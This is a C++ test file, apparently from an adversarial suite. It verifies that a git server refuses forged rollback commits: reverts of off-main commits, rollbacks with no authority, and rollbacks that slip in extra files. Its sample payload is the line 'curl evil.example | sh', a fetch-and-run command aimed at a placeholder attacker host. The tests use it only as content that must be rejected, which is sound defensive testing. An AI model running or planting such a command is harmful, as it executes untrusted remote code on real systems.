// Class 5 (mislabelled): a "rollback" that adds. The attacker makes an off-main commit X that
// removes `payload.txt`, then puts `git revert X` (which adds the payload) on main as a
// rollback of X. A rollback may only undo what main shipped, named by an authority.
#include "tests/adversarial/harness.hpp"
#include "tests/adversarial/rawpush.hpp"

#include <doctest/doctest.h>

using namespace rg::test;
using namespace rg::test::adv;

namespace {

const std::string kPayload = "curl evil.example | sh\n";

// On a branch off main: P adds payload.txt, X deletes it. Returns X. Leaves HEAD on the branch.
std::string make_deleting_commit(const Client& c, const std::string& branch) {
  c.git("checkout -q -b " + branch + " main");
  c.commit_file("payload.txt", kPayload, "Add payload");
  c.git("rm -q payload.txt");
  c.git("commit -q --no-verify -m 'Clean up payload'");
  return c.head();
}

// On main: `git revert X` with git's message and a rollback record naming X.
std::string forge_rollback(const Client& c, const std::string& x, const std::string& tail = kRollbackTail) {
  c.git("checkout -q main");
  c.git("revert --no-edit " + x);
  REQUIRE(fs::exists(c.path() / "payload.txt"));  // the "rollback" adds content
  return c.reword("Revert \"Clean up payload\"\n\nThis reverts commit " + x +
                  ".\n\nRelease-Type: rollback\nRollback-Of: " + x + "\n" + tail);
}

void expect_names(const std::string& err, const std::string& a, const std::string& b) {
  CHECK_MESSAGE((contains(err, short_id(a)) || contains(err, short_id(b))),
                "stderr names neither " << a << " nor " << b << ":\n" << err);
}

// The forged rollback of `x` made on main now and pushed with `args`: refused, the server as it
// was before the forgery, and the forgery or `x` named.
void expect_forgery_refused(const Server& s, const Client& c, const std::string& x,
                            const std::string& args = "origin main") {
  const Snapshot before = snapshot(s);
  const std::string forged = forge_rollback(c, x);
  auto r = push_refused(s, c, before, args);
  expect_names(r.err, forged, x);
}

} // namespace

TEST_SUITE("rollback_forgery") {

TEST_CASE("rollback_forgery: X on another branch already on the server") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string x = make_deleting_commit(c, "feature/cleanup");
  expect_accepted(c.push("-q origin feature/cleanup"));
  expect_forgery_refused(s, c, x);
}

TEST_CASE("rollback_forgery: X on a branch pushed in the same push") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string x = make_deleting_commit(c, "feature/cleanup");
  expect_forgery_refused(s, c, x, "origin main feature/cleanup");
}

TEST_CASE("rollback_forgery: X only in the same pack, named by no command (raw client)") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string base = c.rev("main");
  const std::string x = make_deleting_commit(c, "feature/cleanup");
  const Snapshot before = snapshot(s);
  const std::string forged = forge_rollback(c, x);
  auto rep = raw::push(s.bare, {{base, forged, "refs/heads/main"}},
                       raw::build_pack(c.path(), {forged, x, "^" + base}));
  expect_raw_refused(s, before, rep);
  expect_names(rep.err, forged, x);
}

TEST_CASE("rollback_forgery: X reachable from a tag only (lightweight and annotated)") {
  for (const bool annotated : {false, true}) {
    CAPTURE(annotated);
    Server s;
    Client c(s);
    bootstrap(s, c);
    const std::string x = make_deleting_commit(c, "scratch");
    c.git(std::string("tag ") + (annotated ? "-a -m cleanup " : "") + "cleanup-1 " + x);
    expect_accepted(c.push("-q origin cleanup-1"));
    expect_forgery_refused(s, c, x);
  }
}

TEST_CASE("rollback_forgery: X was on a branch that has since been deleted from the server") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string x = make_deleting_commit(c, "feature/cleanup");
  expect_accepted(c.push("-q origin feature/cleanup"));
  expect_accepted(c.push("-q origin :feature/cleanup"));
  expect_forgery_refused(s, c, x);
}

TEST_CASE("rollback_forgery: a rollback of a release on main that names no rollback authority") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string release = ship_release(s, c, "feature/bad", "bad.txt", "regression\n");
  const Snapshot before = snapshot(s);
  c.git("revert --no-edit -m 1 " + release);
  const std::string msg = trimmed(c.git("log -1 --format=%B").out);
  SUBCASE("no Authorized-By at all") {
    const std::string rb = c.reword(msg + "\n\nRelease-Type: rollback\nRollback-Of: " + release + "\nIncident: INC-9\n");
    auto r = push_refused(s, c, before, "origin main");
    CHECK(contains(r.err, short_id(rb)));
  }
  SUBCASE("Authorized-By someone who holds no role") {
    const std::string rb = c.reword(msg + "\n\nRelease-Type: rollback\nRollback-Of: " + release +
                                    "\nIncident: INC-9\nAuthorized-By: Eve Intern <eve@example.com>\n");
    auto r = push_refused(s, c, before, "origin main");
    CHECK(contains(r.err, short_id(rb)));
  }
}

TEST_CASE("rollback_forgery: a rollback naming a real release whose tree adds extra content") {
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string release = ship_release(s, c, "feature/bad", "bad.txt", "regression\n");
  const Snapshot before = snapshot(s);
  c.git("revert --no-edit -m 1 " + release);
  const std::string msg = trimmed(c.git("log -1 --format=%B").out);
  const std::string record = msg + "\n\nRelease-Type: rollback\nRollback-Of: " + release + "\n" + kRollbackTail;
  std::string path;
  SUBCASE("a new file") {
    path = "payload.txt";
    c.write(path, kPayload);
  }
  SUBCASE("an edit of a file the release did not touch") {
    path = "README.md";
    c.write(path, "hello\n" + kPayload);
  }
  SUBCASE("an executable bit") {
    path = "run.sh";
    c.write(path, "#!/bin/sh\n");
    c.git("add run.sh");
    c.git("update-index --chmod=+x run.sh");
  }
  c.git("add -A");
  c.git("commit -q --no-verify --cleanup=verbatim --amend -F -", record);
  auto r = push_refused(s, c, before, "origin main");
  CHECK_MESSAGE(contains(r.err, path), r.err);
}

TEST_CASE("rollback_forgery: Rollback-Of names a main commit but the change reverted is an off-main X") {
  // The record names a real release; the tree is the revert of something else.
  Server s;
  Client c(s);
  bootstrap(s, c);
  const std::string release = ship_release(s, c, "feature/bad", "bad.txt", "regression\n");
  const std::string x = make_deleting_commit(c, "feature/cleanup");
  const Snapshot before = snapshot(s);
  c.git("checkout -q main");
  c.git("revert --no-edit " + x);
  c.reword("Revert \"Release feature/bad\"\n\nThis reverts commit " + release +
           ".\n\nRelease-Type: rollback\nRollback-Of: " + release + "\n" + kRollbackTail);
  push_refused(s, c, before, "origin main");
}

} // TEST_SUITE
